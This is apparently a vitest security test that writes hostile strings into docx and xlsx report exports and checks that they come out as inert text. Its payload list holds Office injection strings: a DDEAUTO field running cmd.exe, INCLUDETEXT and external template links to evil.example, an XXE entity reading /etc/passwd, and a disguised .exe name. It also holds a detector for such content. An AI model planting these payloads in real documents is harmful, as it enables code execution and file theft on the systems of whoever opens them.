import { describe, expect, it } from 'vitest'
import { unpackOwn } from '../../electron/service/spreadsheets/unpack.ts'
import { REPORT_KINDS } from '../../shared/contract/reports.ts'
import { PLAIN_TASK } from '../harness/plain-task.ts'
import { proved } from '../harness/proved.ts'
import { startTestOutlet } from '../harness/test-service.ts'
import { roundOf } from '../harness/walk-round.ts'

const PAYLOADS = [
  '</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:r><w:r><w:t>',
  '</w:t><w:instrText>INCLUDETEXT "http://evil.example/x"</w:instrText><w:t>',
  '</t></is></c><c r="A1"><f>HYPERLINK("http://evil.example")</f></c>',
  '<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/a.dotm"/>',
  '&xxe; <!ENTITY xxe SYSTEM "file:///etc/passwd">',
  ']]><script>evil()</script><![CDATA[',
  '\u202E gnp.exe',
  'a\u0000b\u0008c\uFFFE',
]
/** What the templates themselves use. */
const FIELDS_OF_OURS = /^\s*(PAGE|NUMPAGES|SECTIONPAGES)\s*$/

describe('S9 writes hostile text into documents as text', () => {
  it.each(REPORT_KINDS)('in docx and xlsx of %s', async (kind) => {
    const outlet = await startTestOutlet()
    const walker = outlet.as('lobby-manager')
    const { patrol, items } = await walker.patrols.start({ uid: await roundOf(walker, 'opening') })
    const plain = items.filter(({ reading }) => !reading)
    for (const [index, note] of PAYLOADS.entries()) {
      const item = plain[index]?.id ?? ''
      await walker.patrols.answer({ uid: patrol.uid, answers: [{ item, value: 'fail', note, basedOn: 0 }] })
      await walker.rectifications.open({ ...PLAIN_TASK, description: note })
    }
    let bad = 0
    for (const format of ['docx', 'xlsx'] as const) {
      const { file } = await outlet.operator.reports.renderFile({ kind, month: '2026-11', format })
      bad += faultsOf(await unpackOwn(new Uint8Array(await file.arrayBuffer())))
    }
    proved({ id: 'S9', runs: 2 * PAYLOADS.length, bad })
  })
})

/** Links outwards, macros, fields and formulas that none of our templates holds, characters no XML may carry. */
function faultsOf(parts: Record<string, Uint8Array>): number {
  let faults = 0
  for (const [name, bytes] of Object.entries(parts)) {
    if (/vbaProject|\.bin$|activeX|embeddings/.test(name)) faults++
    if (!/\.(xml|rels)$/.test(name)) continue
    const xml = new TextDecoder().decode(bytes)
    faults += (xml.match(/<Relationship [^>]*TargetMode="External"/g) ?? []).length
    faults += (xml.match(/<f[ >]|<!ENTITY|<!DOCTYPE|<script/g) ?? []).length
    const fields = [...xml.matchAll(/<w:instrText[^>]*>([^<]*)</g), ...xml.matchAll(/w:instr="([^"]*)"/g)]
    faults += fields.filter(([, code = '']) => !FIELDS_OF_OURS.test(code)).length
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    faults += (xml.match(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g) ?? []).length
  }
  expect(faults).toBe(0)
  return faults
}
